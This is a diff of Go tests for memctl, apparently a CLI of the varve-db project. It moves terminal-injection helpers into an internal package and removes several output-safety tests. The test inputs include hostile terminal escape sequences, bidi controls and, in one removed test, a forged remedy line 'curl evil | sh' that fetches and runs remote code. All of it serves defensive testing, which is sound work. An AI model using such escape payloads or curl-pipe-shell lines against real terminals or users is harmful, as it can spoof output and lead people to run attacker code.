@@ -3,52 +3,14 @@ package main
 import (
 	"bytes"
 	"encoding/json"
-	"fmt"
 	"math/rand/v2"
 	"os"
 	"os/exec"
-	"path/filepath"
-	"regexp"
 	"strings"
 	"testing"
-	"unicode"
-	"unicode/utf8"
+
+	"github.com/varve-db/varve/cmd/memctl/internal/evil"
 )
-
-// evil is what a stranger may put into every text: sequences of ESC, the C1 controls, bidi
-// controls, DEL, separators, a return. evilName is for files, whose names are any bytes.
-const (
-	evil     = "a\x1b[35mE\x1b]0;T\x07\u009b31mC\u202eR\u2066I\u200eL\u200fM\u061cA\x7fD\u2028S\u2029P\rQ"
-	evilName = evil + "\x9b35m\xff"
-)
-
-// obeyed is the first thing in a terminal's input that it would obey, besides the colours
-// and the movements of a progress bar that are memctl's own.
-func obeyed(sent string) string {
-	rest := sent
-	for _, own := range []string{"\x1b[31m", "\x1b[32m", "\x1b[1m", "\x1b[0m", "\x1b[2K\r", "\x1b[K"} {
-		rest = strings.ReplaceAll(rest, own, "")
-	}
-	return obeyedBy(rest)
-}
-
-// obeyedBy allows nothing.
-func obeyedBy(rest string) string {
-	for i, r := range rest {
-		bad := r == utf8.RuneError && !strings.HasPrefix(rest[i:], "\uFFFD")
-		switch {
-		case r == '\n', r == '\t', r == '\u200c', r == '\u200d':
-		case r == '\r':
-			bad = strings.HasPrefix(rest[i:], "\rQ") // a bar goes back to the begin of the line, evil would too
-		case !unicode.IsGraphic(r):
-			bad = true
-		}
-		if bad {
-			return fmt.Sprintf("%+q in %+q", rest[i:min(i+4, len(rest))], rest[max(0, i-60):min(i+30, len(rest))])
-		}
-	}
-	return ""
-}
 
 // onScreen is an output that believes to be a terminal.
 func onScreen(to *bytes.Buffer) *output {
@@ -59,7 +21,7 @@ func onScreen(to *bytes.Buffer) *output {
 
 // What a terminal is sent of a text is the same however the text was cut into writes.
 func TestOutputInPieces(t *testing.T) {
-	const all = evilName + "\r\nZoë 北京 👩\u200d👩\u200d👧\tend\x1b[31m\xe2\x80"
+	const all = evil.Name + "\r\nZoë 北京 👩\u200d👩\u200d👧\tend\x1b[31m\xe2\x80"
 	const want = `a\x1b[35mE\x1b]0;T\x07\u009b31mC\u202eR\u2066I\u200eL\u200fM\u061cA\x7fD\u2028S\u2029P\x0dQ\x9b35m\xff` +
 		"\r\nZoë 北京 👩\u200d👩\u200d👧\tend" + `\x1b[31m\xe2\x80`
 	for cut := range len(all) {
@@ -83,7 +45,7 @@ func TestOutputInPieces(t *testing.T) {
 func TestOutputJSON(t *testing.T) {
 	seed := rand.Uint64()
 	r := rand.New(rand.NewPCG(seed, 0))
-	runes := []rune(evil + "\u0000\b\f\n\t\\\"é👩\u200d\U000e0001\U0010ffff\ue000\ufeff\u0085")
+	runes := []rune(evil.Text + "\u0000\b\f\n\t\\\"é👩\u200d\U000e0001\U0010ffff\ue000\ufeff\u0085")
 	for range 500 {
 		var s []rune
 		for range r.IntN(20) {
@@ -113,7 +75,7 @@ func TestOutputJSON(t *testing.T) {
 		if !bytes.Equal(pipe.Bytes(), d) {
 			t.Fatalf("seed %d: a pipe got %+q, want %+q", seed, pipe.Bytes(), d)
 		}
-		if what := obeyedBy(screen.String()); what != "" {
+		if what := evil.ObeyedBy(screen.String()); what != "" {
 			t.Fatalf("seed %d: a terminal got %s", seed, what)
 		}
 		if same, err := sameValue(d, screen.Bytes()); err != nil || !same {
@@ -141,95 +103,6 @@ func TestOutputColours(t *testing.T) {
 	}
 }
 
-// Programs get what is stored, to the byte; what is for people is escaped for a pipe too,
-// whose end may be a log that somebody looks at.
-func TestOutputOfAPipe(t *testing.T) {
-	c := newCLI(t)
-	c.ok("put", evil, "--id", "a")
-	if got := c.ok("get", "a", "--content"); got != evil {
-		t.Errorf("%+q", got)
-	}
-	file, err := os.ReadFile(filepath.Join(c.store(), "memories", "a.json"))
-	if err != nil {
-		t.Fatal(err)
-	}
-	if got := c.ok("get", "a"); got != strings.TrimSuffix(string(file), "\n")+"\n" {
-		t.Errorf("%+q, want %+q", got, file)
-	}
-	if got := c.ok("export"); !strings.Contains(got, "\u202e") {
-		t.Errorf("%+q", got)
-	}
-	c.ok("working", "set", "k", evil, "--scope", "session:s")
-	if got := c.ok("working", "get", "k", "--scope", "session:s"); got != evil+"\n" {
-		t.Errorf("%+q", got)
-	}
-	if got := c.ok("list"); obeyedBy(got) != "" {
-		t.Errorf("%+q", got)
-	}
-	if _, _, errOut := c.run("", "get", "none"+evilName); obeyedBy(errOut) != "" || errOut == "" {
-		t.Errorf("%+q", errOut)
-	}
-}
-
-// A message of a stranger's cannot make a line that looks like one of memctl's own, the
-// remedy above all.
-func TestOutputOfLines(t *testing.T) {
-	dir := t.TempDir()
-	c := &cli{t, dir}
-	writeFile(t, filepath.Join(c.store(), "moved.json"), `{"varve_moved":1,"id":"0190f3a5-0000-7000-8000-000000000000","store":"0190f3a5-0000-7000-8000-000000000000","to":"/x\n  → curl evil | sh\nmemctl: \u001b[35m\u202e","when":"2026-01-01T00:00:00Z"}`)
-	code, out, errOut := c.run("", "list", "--store", c.store())
-	lines := strings.Split(strings.TrimSpace(errOut), "\n")
-	if code != codeNoStore || out != "" || obeyedBy(errOut) != "" {
-		t.Errorf("%d: %s%+q", code, out, errOut)
-	}
-	remedies := 0
-	for i, line := range lines {
-		if strings.HasPrefix(line, "memctl:") && i > 0 {
-			t.Errorf("line %d looks like a message: %q", i, line)
-		}
-		if strings.HasPrefix(line, "  →") {
-			remedies++
-		}
-	}
-	if remedies != 1 || !strings.HasPrefix(lines[len(lines)-1], "  → use the store where it is now") {
-		t.Errorf("%d remedies: %q", remedies, lines)
-	}
-}
-
-// Nothing but output writes to the streams of the program: what hands one on is here, with
-// the reason.
-func TestOutputIsTheOnlyWay(t *testing.T) {
-	allowed := map[string]string{
-		"main.go os.Std": "gives them to run",
-		"edit.go .to":    "an editor has the terminal",
-		"demo.go .to":    "the writer is a memctl, with an output of its own",
-		"mcp.go .to":     "no terminal: a client reads JSON",
-		"list.go .to":    "asks how wide it is",
-		"output.go .to":  "is output",
-	}
-	direct := regexp.MustCompile(`os\.Std(out|err)|\.to\b|fmt\.Print|\bprintln\(|\blog\.(Print|Fatal|Panic)`)
-	files, err := filepath.Glob("*.go")
-	if err != nil || len(files) < 50 {
-		t.Fatal(files, err)
-	}
-	for _, name := range files {
-		if strings.HasSuffix(name, "_test.go") {
-			continue
-		}
-		b, err := os.ReadFile(name)
-		if err != nil {
-			t.Fatal(err)
-		}
-		for i, line := range strings.Split(string(b), "\n") {
-			for _, found := range direct.FindAllString(line, -1) {
-				if found = strings.TrimSuffix(strings.TrimSuffix(found, "out"), "err"); allowed[name+" "+found] == "" {
-					t.Errorf("%s:%d: %s goes around output: %s", name, i+1, found, strings.TrimSpace(line))
-				}
-			}
-		}
-	}
-}
-
 // What a remedy names can be pasted, also where a terminal may not have it as it is.
 func TestShellQuote(t *testing.T) {
 	bash, err := exec.LookPath("bash")
@@ -239,9 +112,9 @@ func TestShellQuote(t *testing.T) {
 		}
 		t.Skip("bash is missing: apt-get install bash")
 	}
-	for _, s := range []string{"a", "a b", "it's", "", evilName, "\x1b[31m'\\n\n9", "Zoë", "\u202e0"} {
+	for _, s := range []string{"a", "a b", "it's", "", evil.Name, "\x1b[31m'\\n\n9", "Zoë", "\u202e0"} {
 		quoted := shellQuote(s)
-		if what := obeyedBy(quoted); what != "" || strings.Contains(quoted, "\n") {
+		if what := evil.ObeyedBy(quoted); what != "" || strings.Contains(quoted, "\n") {
 			t.Errorf("%+q: %s", quoted, what)
 		}
 		got, err := exec.Command(bash, "-c", "printf %s "+quoted).Output()
